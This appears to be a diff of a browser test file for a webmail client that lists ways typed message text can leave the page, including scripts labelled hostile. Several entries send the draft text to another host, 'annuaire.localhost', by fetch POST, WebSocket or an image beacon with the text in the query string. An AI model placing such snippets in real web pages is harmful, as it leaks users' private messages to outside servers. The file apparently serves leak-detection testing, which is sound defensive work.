@@ -47,7 +47,7 @@ export const GESTURES: readonly Exit[] = [
       await view.page.keyboard.up('Control')
     },
   },
-  { name: 'Save', carries: true, take: ({ page }) => page.click('a.save, button.save, #rcmbtn106, a.savedraft').catch(() => undefined) },
+  { name: 'Save', carries: true, take: ({ page }) => page.click('a.save.draft') },
 ]
 
 /** What scripts of the page can do, those of the webmail and hostile ones. */
@@ -67,7 +67,7 @@ export const SCRIPTS: readonly Exit[] = [
   byScript('fetch', true, (text) => { void fetch('./?_task=mail&_action=save', { method: 'POST', body: text }).catch(() => 0) }),
   byScript('fetch to a harmless address', true, (text) => { void fetch('./?_task=mail&_action=refresh', { method: 'POST', body: text }).catch(() => 0) }),
   byScript('fetch with the text in the address', true, (text) => { void fetch(`./?_task=mail&q=${encodeURIComponent(text)}`).catch(() => 0) }),
-  byScript('fetch to another site', true, (text) => { void fetch('http://annuaire.localhost:1/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0) }),
+  byScript('fetch to another site', true, (text) => { void fetch('http://annuaire.localhost:8765/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0) }),
   byScript('fetch of a fresh frame', true, (text) => {
     const frame = document.body.appendChild(document.createElement('iframe'))
     void frame.contentWindow?.fetch(new URL('./?_task=mail&_action=save', location.href), { method: 'POST', body: text }).catch(() => 0)
@@ -83,10 +83,10 @@ export const SCRIPTS: readonly Exit[] = [
     const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
     worker.postMessage({ url: new URL('./?_task=mail&_action=save', location.href).href, text })
   }),
-  byScript('a new socket', false, (text) => {
+  byScript('a new socket', true, (text) => {
     const socket = new WebSocket(`ws://${location.host}/${encodeURIComponent(text.slice(0, 300))}`)
     socket.onopen = () => socket.send(text)
   }),
-  byScript('a picture of another site', false, (text) => { new Image().src = `http://annuaire.localhost:1/?q=${encodeURIComponent(text)}` }),
+  byScript('a picture of another site', true, (text) => { new Image().src = `http://annuaire.localhost:8765/?q=${encodeURIComponent(text)}` }),
   byScript('localStorage', false, (text) => localStorage.setItem('copy', text)),
 ]
